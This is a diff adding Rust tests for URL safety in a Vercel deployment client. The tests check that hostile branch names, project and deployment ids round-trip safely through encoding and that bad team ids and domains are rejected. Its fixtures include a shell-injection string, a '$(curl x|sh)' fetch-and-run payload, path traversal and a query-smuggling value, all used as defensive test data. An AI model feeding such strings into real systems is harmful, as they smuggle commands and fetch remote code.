@@ -775,3 +775,453 @@ async fn r8_a_hint_beyond_the_budget_fails_at_once_saying_how_long() {
     let id = &log.last().expect("one request").request_id;
     assert!(last.to_string().contains(id.as_str()), "{last}");
 }
+
+// ---------------------------------------------------------------------------------------------
+// I4: URL safety.
+
+/// Hostile text a caller may hand us (branch names are attacker-controlled and legal with all of
+/// these; project ids come from configuration; deployment ids from the API).
+fn hostile_fixed() -> Vec<String> {
+    vec![
+        r#"zzz";echo${IFS}"hello";#"#.into(),
+        "$(curl x|sh)".into(),
+        "a/../../b".into(),
+        "x?y=1#z".into(),
+        "%2F%00".into(),
+        "&a=b".into(),
+        "with  spaces and+plus".into(),
+        "\u{202E}gnp.exe".into(),
+        "🦀/emoji-ñ".into(),
+        "a".repeat(250),
+        "..".into(),
+        ".".into(),
+        "teamId=evil&x".into(),
+    ]
+}
+
+/// A tiny seeded generator (splitmix64) for the random hostile strings.
+struct Rng(u64);
+
+impl Rng {
+    fn next(&mut self) -> u64 {
+        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
+        let mut z = self.0;
+        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
+        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
+        z ^ (z >> 31)
+    }
+}
+
+/// Seeded random strings over a hostile alphabet: URL delimiters, percent and plus, dots, shell
+/// metacharacters, quotes, bidi and zero-width marks, non-ASCII (never control characters, which
+/// branch validation rejects; see `i4_text_that_cannot_reach_a_url_is_rejected_first`).
+fn hostile_random(seed: u64, n: u64) -> Vec<String> {
+    const ALPHABET: &[char] = &[
+        '/', '?', '#', '&', '=', '%', '+', ' ', '.', ';', '"', '\'', '$', '(', ')', '|', '`', '\\',
+        '{', '}', '<', '>', '~', '^', ':', '*', '[', ']', '@', '!', ',', 'a', 'Z', '0', '9', '-',
+        '_', 'é', '\u{202E}', '\u{200B}', '\u{FEFF}', '🦀', '2', 'F',
+    ];
+    let mut rng = Rng(seed);
+    (0..n)
+        .map(|_| {
+            let len = 1 + rng.next() % 40;
+            (0..len)
+                .map(|_| ALPHABET[(rng.next() % ALPHABET.len() as u64) as usize])
+                .collect()
+        })
+        .collect()
+}
+
+fn percent_decode(s: &str) -> String {
+    let b = s.as_bytes();
+    let mut out = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while i < b.len() {
+        let hex = b
+            .get(i + 1..i + 3)
+            .and_then(|h| std::str::from_utf8(h).ok())
+            .and_then(|h| u8::from_str_radix(h, 16).ok());
+        match (b[i], hex) {
+            (b'%', Some(v)) => {
+                out.push(v);
+                i += 3;
+            }
+            (c, _) => {
+                out.push(c);
+                i += 1;
+            }
+        }
+    }
+    String::from_utf8(out).expect("UTF-8 after decoding")
+}
+
+/// The routes the client may call; `{p}` project, `{d}` domain, `{id}` deployment id.
+const ROUTES: &[(&str, &str)] = &[
+    ("GET", "/v10/projects/{p}/env"),
+    ("POST", "/v10/projects/{p}/env"),
+    ("DELETE", "/v1/projects/{p}/env"),
+    ("GET", "/v9/projects/{p}/domains"),
+    ("POST", "/v10/projects/{p}/domains"),
+    ("GET", "/v9/projects/{p}/domains/{d}"),
+    ("PATCH", "/v9/projects/{p}/domains/{d}"),
+    ("DELETE", "/v9/projects/{p}/domains/{d}"),
+    ("GET", "/v6/deployments"),
+    ("POST", "/v13/deployments"),
+    ("GET", "/v13/deployments/{id}"),
+    ("PATCH", "/v12/deployments/{id}/cancel"),
+    ("POST", "/v2/deployments/{id}/aliases"),
+];
+
+/// What the caller's text was, to compare the decoded URL against.
+struct Expect<'a> {
+    project: &'a str,
+    branch: &'a str,
+    deployment_ids: &'a [String],
+}
+
+/// Every request the fake received went to one of the client's routes (same number of raw
+/// segments, same literal segments), each placeholder segment decodes to exactly the caller's
+/// text, and the query holds only known keys, once each, with the caller's text as values.
+fn assert_urls_decode_back(log: &[Exchange], want: &Expect<'_>) {
+    for x in log {
+        let raw: Vec<&str> = x.path.trim_start_matches('/').split('/').collect();
+        let route = ROUTES
+            .iter()
+            .filter(|(m, _)| *m == x.method)
+            .map(|(_, r)| r.trim_start_matches('/').split('/').collect::<Vec<_>>())
+            .find(|r| {
+                r.len() == raw.len()
+                    && r.iter()
+                        .zip(&raw)
+                        .all(|(t, s)| t.starts_with('{') || t == s)
+            })
+            .unwrap_or_else(|| panic!("{} {} is not a route of the client", x.method, x.path));
+        for (t, s) in route.iter().zip(&raw) {
+            let decoded = percent_decode(s);
+            match *t {
+                "{p}" => assert_eq!(decoded, want.project, "{} {}", x.method, x.path),
+                "{d}" => assert_eq!(decoded, DOMAIN, "{} {}", x.method, x.path),
+                "{id}" => assert!(
+                    want.deployment_ids.contains(&decoded),
+                    "{} {}: deployment id {decoded:?}",
+                    x.method,
+                    x.path
+                ),
+                _ => {}
+            }
+        }
+        let pairs: Vec<(String, String)> =
+            url::form_urlencoded::parse(x.query.as_deref().unwrap_or_default().as_bytes())
+                .into_owned()
+                .collect();
+        let mut keys: Vec<&str> = pairs.iter().map(|(k, _)| k.as_str()).collect();
+        keys.sort();
+        let before = keys.len();
+        keys.dedup();
+        assert_eq!(before, keys.len(), "a repeated key in {:?}", x.query);
+        for (k, v) in &pairs {
+            match k.as_str() {
+                "teamId" => assert_eq!(v, TEAM),
+                "gitBranch" | "branch" => assert_eq!(v, want.branch, "{:?}", x.query),
+                "projectId" => assert_eq!(v, want.project, "{:?}", x.query),
+                "upsert" => assert_eq!(v, "true"),
+                "sha" => assert_eq!(v, SHA),
+                "limit" | "until" | "state" => {}
+                other => panic!("unexpected query key {other:?} in {:?}", x.query),
+            }
+        }
+        assert!(
+            keys.contains(&"teamId"),
+            "{} {}: no teamId",
+            x.method,
+            x.path
+        );
+        // Branch text in bodies arrives as the same JSON string.
+        if let Some(body) = &x.request {
+            for b in [&body["gitBranch"], &body["gitSource"]["ref"]] {
+                if let Some(b) = b.as_str() {
+                    assert_eq!(b, want.branch);
+                }
+            }
+            for item in body.as_array().into_iter().flatten() {
+                assert_eq!(item["gitBranch"].as_str(), Some(want.branch));
+            }
+        }
+    }
+}
+
+/// apply → deploy → get → delete with `branch` as the PR's head branch and `project` as the
+/// project id; returns the fake's log. The fake resolved every project, domain and deployment
+/// (or the life cycle would fail), so the text also decoded back on the server side.
+async fn life_cycle_with(
+    fake: &FakeVercel,
+    host: &providers_vercel::VercelApps,
+    project: &str,
+    branch: &str,
+    domain: Option<&str>,
+) {
+    let mut s = spec(project, domain, vec![var("A", "1"), secret("B", SECRET)]);
+    s.branch = branch.into();
+    let c = preview_core::Commit {
+        branch: branch.into(),
+        ..commit()
+    };
+    let n = name(42);
+    let label = format!("project {project:?} branch {branch:?}");
+    if matches!(project, "." | "..") {
+        // A dot segment would be resolved away by URL parsing: refused before any request.
+        let before = fake.exchanges().len();
+        let err = host.apply_app(&n, &s).await.expect_err(&label);
+        assert!(err.is_config(), "{label}: {err}");
+        assert_eq!(
+            fake.exchanges().len(),
+            before,
+            "{label}: a request was sent"
+        );
+        return;
+    }
+    host.apply_app(&n, &s)
+        .await
+        .unwrap_or_else(|e| panic!("{label}: apply: {e}"));
+    let envs = fake.envs(project);
+    assert_eq!(envs.len(), 2, "{label}");
+    assert!(
+        envs.iter().all(|e| e.git_branch.as_deref() == Some(branch)),
+        "{label}: {envs:?}"
+    );
+    host.deploy_app(&n, &s, &c)
+        .await
+        .unwrap_or_else(|e| panic!("{label}: deploy: {e}"));
+    assert!(
+        host.get_app(&n, &s.target)
+            .await
+            .unwrap_or_else(|e| panic!("{label}: get: {e}"))
+            .is_some()
+    );
+    host.delete_app(&n, &s.target)
+        .await
+        .unwrap_or_else(|e| panic!("{label}: delete: {e}"));
+    assert!(fake.envs(project).is_empty(), "{label}: teardown");
+}
+
+#[tokio::test]
+async fn i4_hostile_branches_and_project_ids_decode_back_on_every_route() {
+    let fixed = hostile_fixed();
+    for text in &fixed {
+        // As the branch (JSON bodies, gitBranch / branch query filters), with a domain.
+        let fake = fake();
+        let server = fake.start().await;
+        let vercel = host(&server);
+        life_cycle_with(&fake, &vercel, API, text, Some(DOMAIN)).await;
+        let log = fake.exchanges();
+        let ids: Vec<String> = fake.deployments().into_iter().map(|d| d.id).collect();
+        assert_urls_decode_back(
+            &log,
+            &Expect {
+                project: API,
+                branch: text,
+                deployment_ids: &ids,
+            },
+        );
+        check_exchanges(&log);
+
+        // As the project id (path segments, projectId filter).
+        let fake = FakeVercel::new(TOKEN).team(TEAM).project(text, "hostile");
+        let server = fake.start().await;
+        let vercel = host(&server);
+        life_cycle_with(&fake, &vercel, text, BRANCH, Some(DOMAIN)).await;
+        let ids: Vec<String> = fake.deployments().into_iter().map(|d| d.id).collect();
+        assert_urls_decode_back(
+            &fake.exchanges(),
+            &Expect {
+                project: text,
+                branch: BRANCH,
+                deployment_ids: &ids,
+            },
+        );
+    }
+}
+
+/// One fake for a chunk of strings, each used alternately as the branch and as the project id.
+async fn random_chunk(chunk: Vec<String>) {
+    let fake = fake();
+    let server = fake.start().await;
+    let vercel = host(&server);
+    for (i, text) in chunk.iter().enumerate() {
+        let (project, branch) = if i % 2 == 0 {
+            (API, text.as_str())
+        } else {
+            let _ = fake.clone().project(text, "hostile");
+            (text.as_str(), BRANCH)
+        };
+        let before = fake.exchanges().len();
+        life_cycle_with(&fake, &vercel, project, branch, None).await;
+        let ids: Vec<String> = fake.deployments().into_iter().map(|d| d.id).collect();
+        assert_urls_decode_back(
+            &fake.exchanges()[before..],
+            &Expect {
+                project,
+                branch,
+                deployment_ids: &ids,
+            },
+        );
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn i4_seeded_random_hostile_strings_decode_back() {
+    let n = cases(500, 5000);
+    // Chunks of 25 keep each fake's log short, and run side by side.
+    let mut chunks = tokio::task::JoinSet::new();
+    for chunk in hostile_random(7, n).chunks(25) {
+        chunks.spawn(random_chunk(chunk.to_vec()));
+    }
+    while let Some(done) = chunks.join_next().await {
+        if let Err(e) = done {
+            std::panic::resume_unwind(e.into_panic());
+        }
+    }
+}
+
+#[tokio::test]
+async fn i4_hostile_deployment_ids_decode_back() {
+    for (i, id) in hostile_fixed().into_iter().enumerate() {
+        let fake = fake();
+        let server = fake.start().await;
+        let host = host(&server);
+        let n = name(42);
+        let s = spec(API, Some(DOMAIN), vec![var("A", "1")]);
+        host.apply_app(&n, &s).await.expect("apply");
+        let seeded = |id: &str| providers_vercel::testing::FakeDeployment {
+            id: id.to_string(),
+            project_id: API.into(),
+            name: "agents-api".into(),
+            url: format!("agents-api-{i}-fake-team.vercel.app"),
+            state: "BUILDING".into(),
+            git_ref: BRANCH.into(),
+            sha: SHA.into(),
+            meta: [
+                ("previewEnv".to_string(), n.to_string()),
+                ("githubCommitSha".to_string(), SHA.to_string()),
+            ]
+            .into_iter()
+            .collect(),
+            alias: Vec::new(),
+            created_at: 0,
+            polls: 0,
+        };
+        // Reused by deploy (polled, then aliased), then a second in-flight one is cancelled.
+        fake.add_deployment(seeded(&id));
+        if matches!(id.as_str(), "." | "..") {
+            // A dot segment would be resolved away by URL parsing: refused, nothing sent there.
+            let err = host
+                .deploy_app(&n, &s, &commit())
+                .await
+                .expect_err("a dot id is refused");
+            assert!(err.is_config(), "{id:?}: {err}");
+            assert_urls_decode_back(
+                &fake.exchanges(),
+                &Expect {
+                    project: API,
+                    branch: BRANCH,
+                    deployment_ids: &[],
+                },
+            );
+            continue;
+        }
+        let (d, _) = host
+            .deploy_app(&n, &s, &commit())
+            .await
+            .unwrap_or_else(|e| panic!("{id:?}: deploy: {e}"));
+        assert_eq!(d.id, id);
+        let other = format!("{id}/2");
+        fake.add_deployment(providers_vercel::testing::FakeDeployment {
+            git_ref: "other".into(),
+            ..seeded(&other)
+        });
+        host.delete_app(&n, &s.target).await.expect("delete");
+        let states: Vec<(String, String, Vec<String>)> = fake
+            .deployments()
+            .into_iter()
+            .map(|d| (d.id, d.state, d.alias))
+            .collect();
+        assert_eq!(states[0].0, id);
+        assert_eq!(states[0].1, "READY");
+        assert!(states[0].2.contains(&DOMAIN.to_string()), "{states:?}");
+        assert_eq!(
+            (states[1].0.as_str(), states[1].1.as_str()),
+            (other.as_str(), "CANCELED")
+        );
+        let log = fake.exchanges();
+        assert_urls_decode_back(
+            &log,
+            &Expect {
+                project: API,
+                branch: BRANCH,
+                deployment_ids: &[id.clone(), other.clone()],
+            },
+        );
+        check_exchanges(&log);
+    }
+}
+
+/// Where text never reaches a URL because it is validated first: the team id (builder), domains
+/// (hostname check) and branches with control characters are refused before any request.
+#[tokio::test]
+async fn i4_text_that_cannot_reach_a_url_is_rejected_first() {
+    // One fake for every case: none of them may send a request.
+    let silent = fake();
+    let server = silent.start().await;
+    let vercel = host(&server);
+    let n = name(42);
+    for text in hostile_fixed()
+        .into_iter()
+        .chain(hostile_random(11, 50))
+        .chain([
+            "a\nb".to_string(),
+            "\u{0}".to_string(),
+            "a\u{7f}".to_string(),
+        ])
+    {
+        let team = providers_vercel::VercelApps::builder()
+            .token(TOKEN)
+            .team_id(text.as_str())
+            .base_url("http://127.0.0.1:9")
+            .build();
+        let plain = text
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
+        match team {
+            Ok(_) => assert!(plain, "{text:?}: a hostile team id was accepted"),
+            Err(err) => assert!(err.is_config() && !plain, "{text:?}: {err}"),
+        }
+
+        let with_domain = spec(API, Some(&text), vec![var("A", "1")]);
+        let err = vercel
+            .apply_app(&n, &with_domain)
+            .await
+            .expect_err("a hostile domain is refused");
+        assert!(err.is_config(), "{text:?}: {err}");
+        let err = vercel
+            .delete_app(&n, &with_domain.target)
+            .await
+            .expect_err("a hostile domain is refused");
+        assert!(err.is_config(), "{text:?}: {err}");
+    }
+    for branch in ["", "a\nb", "tab\there", "nul\u{0}", &"b".repeat(251)] {
+        let fake = fake();
+        let server = fake.start().await;
+        let host = host(&server);
+        let mut s = spec(API, Some(DOMAIN), vec![var("A", "1")]);
+        s.branch = branch.into();
+        let err = host
+            .apply_app(&name(42), &s)
+            .await
+            .expect_err("an invalid branch is refused");
+        assert!(err.is_config(), "{branch:?}: {err}");
+        assert!(
+            fake.exchanges().is_empty(),
+            "{branch:?}: a request was sent"
+        );
+    }
+}
